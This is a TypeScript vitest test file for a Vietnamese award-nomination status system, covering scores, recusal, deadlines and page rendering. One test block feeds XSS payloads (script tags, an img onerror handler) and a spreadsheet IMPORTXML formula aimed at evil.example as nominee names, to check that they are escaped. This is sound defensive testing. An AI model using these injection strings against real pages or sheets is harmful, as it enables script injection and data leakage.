import { describe, expect, test } from 'vitest';
import { CouncilScoreEntry } from '../../shared/domain/council.js';
import { decide } from '../../shared/domain/decide.js';
import { nextDeadline } from '../../shared/status/next-deadline.js';
import { statusPageHtml } from '../../shared/status/status-page-html.js';
import { statusView } from '../../shared/status/status-view.js';
import { unitPageHtml } from '../../shared/status/unit-page-html.js';
import { unitView } from '../../shared/status/unit-view.js';
import { fullMarks, nomination, rawIndividual, vanNinh } from '../support/builders.js';

const now = new Date('2024-08-20T03:00:00Z'); // 10:00 on 20/8/2024 in Vietnam
const expiresAt = new Date('2027-09-30T17:00:00Z');
const entry = (responseId: string, member: string, memberUnit: string, scores: Record<string, number>) => CouncilScoreEntry.parse({ responseId, member, memberUnit, scores });

describe('the status view of one nomination', () => {
  // GIVEN a clerk's nomination with criterion 3 under its 90% minimum and no evidence for criterion 5,
  // scored by two council members, one of whom is from the same unit and recused
  const n = nomination(rawIndividual({ responseId: 'vn-1', name: 'Trần Văn Phúc', unit: 'UBND xã Vạn Hưng', selfScores: { ...fullMarks('individual'), 3: 17 }, evidence: { 1: 'a', 2: 'b', 3: 'c', 4: 'd', 6: 'f', 7: 'g' } }));
  const council = [entry('vn-1', 'Lê Thị Hội đồng', 'Phòng Nội vụ', { ...fullMarks('individual'), 3: 17.5 }), entry('vn-1', 'Người cùng xã', 'UBND xã Vạn Hưng', fullMarks('individual'))];
  const [decision] = decide(vanNinh(), [n], { councilScores: council });
  const view = statusView(vanNinh(), n, decision!, council, now, expiresAt);

  test('names the nominee, the award, the status and the stage in Vietnamese', () => {
    expect(view).toMatchObject({ nominee: { name: 'Trần Văn Phúc', kind: 'Cá nhân', unit: 'UBND xã Vạn Hưng' }, award: 'Giấy khen của Chủ tịch UBND huyện', year: 2024, statusLabel: 'Không đủ điều kiện', stage: 'submitted' });
    expect(view.stages.map((s) => s.state)).toEqual(['current', 'todo', 'todo', 'todo']);
  });

  test('shows each criterion with its minimum, the unit\'s own points and the council\'s average', () => {
    expect(view.criteria.find((c) => c.number === '3')).toEqual({ number: '3', text: expect.any(String), max: 20, min: 18, self: 17, council: 17.5, rated: false, meets: false });
    expect(view.criteria.find((c) => c.number === '1')).toMatchObject({ max: 15, min: 13.5, self: 15, council: 15, meets: true });
    expect(view.threshold).toBe(90);
  });

  test('lists the findings that concern the unit with what to do, and keeps the council\'s own notes out', () => {
    expect(view.findings.map((f) => f.code)).toEqual(['EVIDENCE_MISSING', 'CRITERION_BELOW_MIN', 'PREREQUISITE_NOT_CHECKED']);
    expect(view.findings[0]!.todo).toContain('Bổ sung tài liệu kiểm chứng');
    expect(decision!.findings.map((f) => f.code)).toContain('COUNCIL_MEMBER_RECUSED');
    expect(JSON.stringify(view)).not.toContain('Người cùng xã');
  });

  test('counts the days left before the campaign\'s next deadline, in Vietnam days', () => {
    expect(view.nextDeadline).toEqual({ label: 'Hồ sơ đề nghị Chủ tịch UBND huyện khen thưởng', submitTo: 'Ban Dân vận Huyện ủy', before: '01/9/2024', daysLeft: 12 });
    expect(view.expiresOn).toBe('30/9/2027');
  });

  test('renders a page in Vietnamese with the findings, the points and the deadline', () => {
    const page = statusPageHtml(view);
    expect(page).toMatch(/^<!doctype html>\n<html lang="vi">/);
    for (const text of ['Trần Văn Phúc', 'Không đủ điều kiện', 'Cần làm:', 'Tiêu chí 3', '17,5', 'còn 12 ngày', 'aria-current="step"']) expect(page).toContain(text);
  });
});

describe('the campaign\'s next deadline', () => {
  test.each([
    ['before the dossier deadline', '2024-08-20T03:00:00Z', 'Hồ sơ đề nghị Chủ tịch UBND huyện khen thưởng', '01/9/2024', 12],
    ['on the last day before it, late at night', '2024-08-31T16:59:00Z', 'Hồ sơ đề nghị Chủ tịch UBND huyện khen thưởng', '01/9/2024', 1],
    ['right after it: the review', '2024-08-31T17:00:00Z', 'Xét khen thưởng (Quý III)', '01/10/2024', 30],
    ['after the last of the year: next year\'s registration', '2024-11-01T03:00:00Z', 'Đăng ký xây dựng điển hình, mô hình “Dân vận khéo”', '15/02/2025', 106],
  ])('%s', (_, at, label, before, daysLeft) => {
    expect(nextDeadline(vanNinh(), new Date(at))).toMatchObject({ label, before, daysLeft });
  });

  test('none once the campaign is over', () => {
    expect(nextDeadline(vanNinh(), new Date('2026-11-22T03:00:00Z'))).toBeUndefined();
  });
});

describe('names that look like code stay text', () => {
  test.each([['<script>alert("x")</script>'], ['=IMPORTXML("http://evil.example","//a")'], ['"><img src=x onerror=alert(1)>']])('%s', (name) => {
    const n = nomination(rawIndividual({ responseId: '<b>id</b>', name, unit: name, position: name }));
    const [decision] = decide(vanNinh(), [n]);
    const page = statusPageHtml(statusView(vanNinh(), n, decision!, [], now, expiresAt));
    expect(page).not.toContain(name.includes('<') ? name : '\u0000');
    expect(page).not.toMatch(/<script|<img|<b>id/);
    if (name.startsWith('=')) expect(page).toContain('=IMPORTXML(&quot;http://evil.example&quot;,&quot;//a&quot;)');
  });
});

describe('the unit page', () => {
  const mine = [
    nomination(rawIndividual({ responseId: 'a', name: 'Đặng Thị Mai', unit: 'UBND xã Vạn Thắng' })),
    nomination(rawIndividual({ responseId: 'b', name: 'Bùi Văn An', unit: 'ubnd  xã VẠN THẮNG' })),
  ];
  const theirs = nomination(rawIndividual({ responseId: 'c', name: 'Người Đơn Vị Khác', unit: 'UBND xã Vạn Hưng' }));
  const decisions = decide(vanNinh(), [...mine, theirs]);
  const view = unitView(vanNinh(), 'UBND xã Vạn Thắng', [...mine, theirs], decisions, (id) => `status?t=${id}`, now, '30/09/2027');

  test('lists only that unit\'s nominations (names matched as the sheet does), in Vietnamese order, each with its own link', () => {
    expect(view.rows.map((r) => [r.name, r.stageLabel, r.href])).toEqual([
      ['Bùi Văn An', 'Đã nộp', 'status?t=b'],
      ['Đặng Thị Mai', 'Đã nộp', 'status?t=a'],
    ]);
    expect(view.byStage).toEqual([{ label: 'Đã nộp', count: 2 }]);
    const page = unitPageHtml(view);
    expect(page).toContain('Bùi Văn An');
    expect(page).not.toContain('Người Đơn Vị Khác');
    expect(page).not.toContain('UBND xã Vạn Hưng');
  });

  test('a unit with no nomination yet sees an empty list, not an error', () => {
    const empty = unitView(vanNinh(), 'UBND xã Vạn Long', [...mine, theirs], decisions, (id) => id, now, '30/09/2027');
    expect(empty.rows).toEqual([]);
    expect(unitPageHtml(empty)).toContain('Chưa có hồ sơ nào của đơn vị trong phong trào này.');
  });
});
